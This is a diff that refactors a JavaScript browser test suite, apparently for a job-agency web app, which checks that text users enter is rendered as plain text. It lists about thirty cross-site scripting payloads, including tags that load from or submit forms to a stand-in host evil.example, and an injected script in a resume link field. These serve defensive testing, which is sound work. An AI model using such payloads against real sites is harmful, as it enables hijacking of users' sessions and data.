@@ -9,56 +9,36 @@ import { openBrowser, Visitor } from './support/visitor.js';
 
 /** Texts that act when a page takes them for more than text. What they make carries `data-hostile`, what they call is `alert`. */
 const PAYLOADS = [
-  ...[
-    '<script data-hostile>alert(1)</script>',
-    '<img data-hostile src=x onerror=alert(1)>',
-    '<svg data-hostile onload=alert(1)>',
-  ],
-  ...[
-    '"><img data-hostile src=x onerror=alert(1)>',
-    "'><svg data-hostile onload=alert(1)>",
-    '</textarea><b data-hostile>',
-    '</title><b data-hostile>',
-  ],
-  ...[
-    '</script><script data-hostile>alert(1)</script>',
-    '<iframe data-hostile srcdoc="<script>parent.alert(1)</script>">',
-  ],
-  ...[
-    '<a data-hostile href=javascript:alert(1)>x</a>',
-    '<details data-hostile open ontoggle=alert(1)>',
-    '<body onload=alert(1)>',
-  ],
-  ...[
-    '<input data-hostile autofocus onfocus=alert(1)>',
-    '<style data-hostile>@import "//evil.example"</style>',
-    '<base data-hostile href=//evil.example>',
-  ],
-  ...[
-    '<object data-hostile data=javascript:alert(1)>',
-    '<embed data-hostile src=javascript:alert(1)>',
-    '<form data-hostile action=//evil.example>',
-  ],
-  ...[
-    '<meta data-hostile http-equiv=refresh content=0;url=//evil.example>',
-    '<link data-hostile rel=stylesheet href=//evil.example/a.css>',
-  ],
-  ...[
-    '<math><mtext></form><form><mglyph><style></math><img data-hostile src=x onerror=alert(1)>',
-    '<video data-hostile><source onerror=alert(1)>',
-  ],
-  ...[
-    '&lt;img src=x onerror=alert(1)&gt;',
-    '<!--><img data-hostile src=x onerror=alert(1)>-->',
-    '<![CDATA[<img data-hostile src=x onerror=alert(1)>]]>',
-  ],
-  ...[
-    'javascript:alert(1)',
-    '${alert(1)}',
-    '{{constructor.constructor("alert(1)")()}}',
-    "');alert(1);//",
-    '[x](javascript:alert(1))',
-  ],
+  '<script data-hostile>alert(1)</script>',
+  '<img data-hostile src=x onerror=alert(1)>',
+  '<svg data-hostile onload=alert(1)>',
+  '"><img data-hostile src=x onerror=alert(1)>',
+  "'><svg data-hostile onload=alert(1)>",
+  '</textarea><b data-hostile>',
+  '</title><b data-hostile>',
+  '</script><script data-hostile>alert(1)</script>',
+  '<iframe data-hostile srcdoc="<script>parent.alert(1)</script>">',
+  '<a data-hostile href=javascript:alert(1)>x</a>',
+  '<details data-hostile open ontoggle=alert(1)>',
+  '<body onload=alert(1)>',
+  '<input data-hostile autofocus onfocus=alert(1)>',
+  '<style data-hostile>@import "//evil.example"</style>',
+  '<base data-hostile href=//evil.example>',
+  '<object data-hostile data=javascript:alert(1)>',
+  '<embed data-hostile src=javascript:alert(1)>',
+  '<form data-hostile action=//evil.example>',
+  '<meta data-hostile http-equiv=refresh content=0;url=//evil.example>',
+  '<link data-hostile rel=stylesheet href=//evil.example/a.css>',
+  '<math><mtext></form><form><mglyph><style></math><img data-hostile src=x onerror=alert(1)>',
+  '<video data-hostile><source onerror=alert(1)>',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '<!--><img data-hostile src=x onerror=alert(1)>-->',
+  '<![CDATA[<img data-hostile src=x onerror=alert(1)>]]>',
+  'javascript:alert(1)',
+  '${alert(1)}',
+  '{{constructor.constructor("alert(1)")()}}',
+  "');alert(1);//",
+  '[x](javascript:alert(1))',
 ];
 const PAGES_OF_CONSOLE = /^(dashboard|list of|details of)/;
 const BAD_LINKS = [
@@ -89,13 +69,11 @@ describe('R34, R33: text of people stays text', () => {
     const { agency, admin } = office;
     const resume_link = 'https://cv.example.in/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E';
     asha = await addPerson(agency, admin, 'employee', {
-      ...{
-        qualification: next(),
-        emplocation: next(),
-        empsalary: next(),
-        skills: next().replaceAll(',', ''),
-        resume_link,
-      },
+      qualification: next(),
+      emplocation: next(),
+      empsalary: next(),
+      skills: next().replaceAll(',', ''),
+      resume_link,
     });
     malabar = await addPerson(agency, admin, 'company', { companyName: next(), location: next() });
     const company = await agency.login(malabar.email);
@@ -106,7 +84,11 @@ describe('R34, R33: text of people stays text', () => {
       industry: 'IT',
     };
     await company.put(`/api/companies/${malabar.id}`, {
-      ...{ ...contact, name: next(), location: next(), about_us: next(), website_url: 'https://malabar.example.in/' },
+      ...contact,
+      name: next(),
+      location: next(),
+      about_us: next(),
+      website_url: 'https://malabar.example.in/',
     });
     for (let n = 0; n < 6; n += 1) {
       const texts = { title: next(), domain: next(), description: next(), location: next(), salary_range: next() };
